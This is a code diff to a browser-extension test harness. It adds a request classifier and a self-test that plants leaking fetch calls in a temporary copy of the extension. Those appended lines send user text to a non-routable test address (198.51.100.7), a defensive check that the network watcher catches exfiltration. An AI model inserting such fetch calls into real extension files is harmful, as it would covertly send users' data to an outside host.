@@ -31,15 +31,21 @@
 //             service-worker network events, CDP Network on the worker and extension-page
 //             targets, and the worker's own Resource Timing entries) goes only to the local test
 //             server's page files or to chrome-extension://<PostGuard>/; the extension pages' CSP
-//             blocks a request to anywhere else
+//             blocks a request to anywhere else. Who made a request and where it goes decide
+//             (lib/netpolicy.mjs): the browser's own UI (browser_ui targets, chrome:// pages)
+//             loading chrome:// resources from its binary is listed, not counted.
+//   network self-test  a copy of the extension that leaks from its worker, popup and content
+//             script, and a web page's own fetch: the same watcher must catch each one
 import fs from 'node:fs';
 import path from 'node:path';
+import os from 'node:os';
 import { spawn } from 'node:child_process';
 import { ROOT, ensureFixturePackages, bundlePages } from './lib/fixtures.mjs';
 import { startServer } from './lib/server.mjs';
 import { launch, extensionWorker, poll, sleep, EXT } from './lib/browser.mjs';
 import { isolatedWorld, overlayElements, cardInfo } from './lib/isolated.mjs';
 import { watchAllRequests } from './lib/cdpnet.mjs';
+import { partitionRequests } from './lib/netpolicy.mjs';
 
 const ATTR = 'data-postguard-findings';
 const SNOWPLOW = 'As a City of Rochester snowplow driver I can tell you the new routes are a mess. Email me at jdoe@rochestermn.gov';
@@ -99,7 +105,7 @@ export async function runHardening({ record, only = null, bundle = false }) {
       try {
         const w = await extensionWorker(context, 3000);
         const e = await w.evaluate(() => performance.getEntriesByType('resource').map((r) => r.name));
-        net.timing.push(...e.map((url) => ({ url, where: 'worker Resource Timing' })));
+        net.timing.push(...e.map((url) => ({ url, targetType: 'service_worker', targetUrl: w.url(), where: 'worker Resource Timing' })));
       } catch { /* stopped */ }
     };
 
@@ -117,28 +123,32 @@ export async function runHardening({ record, only = null, bundle = false }) {
       for (const p of context.pages()) {
         if (!p.url().startsWith(extOrigin)) continue;
         const e = await p.evaluate(() => performance.getEntriesByType('resource').map((r) => r.name)).catch(() => []);
-        net.timing.push(...e.map((url) => ({ url, where: `Resource Timing of ${new URL(p.url()).pathname}` })));
+        net.timing.push(...e.map((url) => ({ url, targetType: 'page', targetUrl: p.url(), where: `Resource Timing of ${new URL(p.url()).pathname}` })));
       }
-      const allowedHosts = new Set(srv.hosts);
-      const bad = (url) => {
-        let u;
-        try { u = new URL(url); } catch { return true; }
-        if (u.protocol === 'data:' || u.protocol === 'blob:' || u.href === 'about:blank') return false;
-        if (u.protocol === 'chrome-extension:') return u.host !== extId;
-        return !(u.protocol === 'https:' && allowedHosts.has(u.hostname) && (u.port === '' || u.port === '443'));
-      };
+      // Who asked for what (netpolicy.mjs): the extension and the pages may reach only the test
+      // server and PostGuard's own files; the browser's own UI (Chromium 156's omnibox pop-up is
+      // a browser_ui target loading chrome://resources/...) may load from the browser's own
+      // schemes, and is listed, never counted as a leak; nothing may reach any other network
+      // address.
+      const allowed = { hosts: srv.hosts, extensionOrigin: extOrigin };
       const all = [
-        ...net.requests.map((r) => ({ url: r.url, where: r.sw ? 'service worker (Playwright)' : `page ${r.page}` })),
-        ...cdpNet.requests.map((r) => ({ url: r.url, where: `CDP Network on ${r.type === 'service_worker' ? 'service worker' : r.type} ${r.targetUrl}` })),
+        ...net.requests.map((r) => (r.sw
+          ? { url: r.url, targetType: 'service_worker', targetUrl: `${extOrigin}/background.js`, where: 'service worker (Playwright)' }
+          : { url: r.url, targetType: 'page', targetUrl: r.page, where: `page ${r.page}` })),
+        ...cdpNet.requests.map((r) => ({ url: r.url, targetType: r.type, targetUrl: r.targetUrl, where: `CDP Network on ${r.type === 'service_worker' ? 'service worker' : r.type} ${r.targetUrl}` })),
         ...net.timing,
       ];
-      const offenders = all.filter((r) => bad(r.url));
+      const parts = partitionRequests(all, allowed);
+      const offenders = parts.leak;
       const fromWorker = all.filter((r) => /worker/.test(r.where) && !/Resource Timing/.test(r.where) || r.where === 'worker Resource Timing');
       const extPages = all.filter((r) => /CDP Network on page chrome-extension:/.test(r.where) || /Resource Timing of/.test(r.where));
       const web = [...new Set(all.filter((r) => r.url.startsWith('https://')).map((r) => new URL(r.url).host))];
+      const internalBy = [...new Set(parts.internal.map((r) => `${r.targetType} ${r.targetUrl}`))];
       record(G('network'), 'no request leaves the extension: only the test server\'s pages and PostGuard\'s own files', offenders.length === 0 && all.length > 0,
-        offenders.length ? offenders.slice(0, 8).map((r) => `${r.url} (${r.where})`).join(' | ')
+        offenders.length ? `${offenders.length} in all: ${offenders.slice(0, 8).map((r) => `${r.url} (${r.where}: ${r.why})`).join(' | ')}`
           : `${all.length} requests seen (${net.requests.length} by Playwright, ${cdpNet.requests.length} by CDP Network on ${cdpNet.targets().length} auto-attached targets [${[...new Set(cdpNet.targets().map((t) => t.type))].join(', ')}], ${net.timing.length} Resource Timing entries); worker: ${[...new Set(fromWorker.map((r) => new URL(r.url).pathname))].join(', ') || 'none'}; extension pages: ${[...new Set(extPages.map((r) => new URL(r.url).pathname))].join(', ')}; web hosts: ${web.join(', ')}`);
+      // Listed so that a reader sees what was exempted and why (netpolicy.mjs): never a socket.
+      console.log(`  allowed as the browser's own UI: ${parts.internal.length} loads from its own schemes by ${internalBy.length ? internalBy.join(', ') : 'no such target'}`);
       const workerOnly = fromWorker.every((r) => r.url.startsWith(extOrigin));
       const bySource = {};
       for (const r of fromWorker) bySource[r.where.replace(/ chrome-extension:.*/, '')] = (bySource[r.where.replace(/ chrome-extension:.*/, '')] ?? 0) + 1;
@@ -164,6 +174,9 @@ export async function runHardening({ record, only = null, bundle = false }) {
       record(G('network'), 'extension pages\' CSP blocks fetch() and <img> to another origin', csp.fetched !== 'no error' && probes.length === 0 && csp.violations.length >= 2,
         `fetch → ${csp.fetched}; violations: ${csp.violations.join(', ')}; server saw ${probes.length} probe requests`);
     }
+    // The checker above must still fail on a real leak: the same watcher and classifier over a
+    // browser running a copy of the extension that leaks from each of its contexts.
+    if (want('network')) await testLeakSelfTest({ record, G: G('network self-test'), srv });
   } catch (e) {
     record(G('harness'), 'exception', false, e.stack?.split('\n').slice(0, 4).join(' ') ?? String(e));
   } finally {
@@ -247,6 +260,68 @@ function startLint() {
       } catch (err) { resolve({ ok: false, detail: `web-ext lint printed no report (${err.message})` }); }
     });
   });
+}
+
+// ---- network self-test: a leaking copy of the extension must be caught -----------------------
+
+// 198.51.100.0/24 is TEST-NET-2 (RFC 5737): never routed, and --host-resolver-rules leaves IP
+// literals alone, so the browser really tries to connect; the request is what CDP sees.
+const LEAK_HOST = '198.51.100.7';
+
+function leakyExtensionCopy() {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pg-leaky-ext-'));
+  fs.cpSync(EXT, dir, { recursive: true });
+  const m = JSON.parse(fs.readFileSync(path.join(dir, 'manifest.json'), 'utf8'));
+  // Let the extension pages' requests out (the shipped CSP would block them before the network:
+  // the CSP has its own test; this one is about the watcher).
+  m.content_security_policy.extension_pages = m.content_security_policy.extension_pages.replace("connect-src 'self'", `connect-src 'self' https://${LEAK_HOST}`);
+  fs.writeFileSync(path.join(dir, 'manifest.json'), JSON.stringify(m, null, 2));
+  const leak = (where) => `\n;fetch('https://${LEAK_HOST}/leak/${where}?text=' + encodeURIComponent('As a City snowplow driver')).catch(() => {});\n`;
+  fs.appendFileSync(path.join(dir, 'background.js'), leak('worker'));
+  fs.appendFileSync(path.join(dir, 'popup.js'), leak('popup'));
+  fs.appendFileSync(path.join(dir, 'content/main.js'), leak('content-script'));
+  return dir;
+}
+
+async function testLeakSelfTest({ record, G, srv }) {
+  const dir = leakyExtensionCopy();
+  const { context, close, userDataDir } = await launch({ hosts: srv.hosts, port: srv.port, extensionDir: dir, extraArgs: ['--remote-debugging-port=0'] });
+  let watch = null;
+  try {
+    const sw = await extensionWorker(context);
+    const extOrigin = `chrome-extension://${new URL(sw.url()).host}`;
+    watch = await watchAllRequests(await browserWsUrl(userDataDir));
+    // Restart the worker under the watcher: its top-level fetch runs again, seen from its start.
+    const popup = await context.newPage();
+    const cdp = await context.newCDPSession(popup);
+    await cdp.send('ServiceWorker.enable');
+    await cdp.send('ServiceWorker.stopAllWorkers');
+    await cdp.detach().catch(() => {});
+    await popup.goto(`${extOrigin}/popup.html`);
+    const site = await context.newPage();
+    await site.goto(`https://${srv.byHost.get('x.com') ? 'x.com' : srv.hosts[0]}/`);
+    // A web page's own script (no CSP on about:blank): "any target" reaching the network.
+    const blank = await context.newPage();
+    await blank.goto('about:blank');
+    await blank.evaluate((h) => fetch(`https://${h}/leak/page-script`).catch(() => {}), LEAK_HOST);
+    await poll(() => watch.requests.filter((r) => r.url.includes(LEAK_HOST)).length, (n) => n >= 4, 6000);
+    const seen = watch.requests.map((r) => ({ url: r.url, targetType: r.type, targetUrl: r.targetUrl }));
+    const { leak } = partitionRequests(seen, { hosts: srv.hosts, extensionOrigin: extOrigin });
+    const caught = (where, type) => leak.find((r) => r.url.includes(`/leak/${where}`) && (!type || r.targetType === type));
+    const show = (r) => (r ? `${r.targetType} ${r.targetUrl} → ${r.url}` : 'NOT CAUGHT');
+    record(G, 'a fetch to a non-local address from the service worker is caught and attributed to it', !!caught('worker', 'service_worker'), show(caught('worker')));
+    record(G, 'a fetch from an extension page (the popup) is caught and attributed to it', !!caught('popup', 'page') && caught('popup').targetUrl.startsWith(extOrigin), show(caught('popup')));
+    record(G, 'a fetch from the content script is caught on the web page\'s frame', !!caught('content-script'), show(caught('content-script')));
+    record(G, 'a web page\'s own fetch to a non-local address is caught', !!caught('page-script', 'page'), show(caught('page-script')));
+    record(G, 'nothing else of the leaking build is misattributed: every leak is one of the planted ones', leak.every((r) => r.url.includes(`${LEAK_HOST}/leak/`)),
+      leak.filter((r) => !r.url.includes(`${LEAK_HOST}/leak/`)).slice(0, 5).map((r) => `${r.url} (${r.why})`).join(' | ') || `${leak.length} planted leaks`);
+  } catch (e) {
+    record(G, 'harness', false, e.stack?.split('\n').slice(0, 4).join(' ') ?? String(e));
+  } finally {
+    try { watch?.close(); } catch { /* gone */ }
+    await close();
+    fs.rmSync(dir, { recursive: true, force: true });
+  }
 }
 
 async function browserWsUrl(userDataDir) {
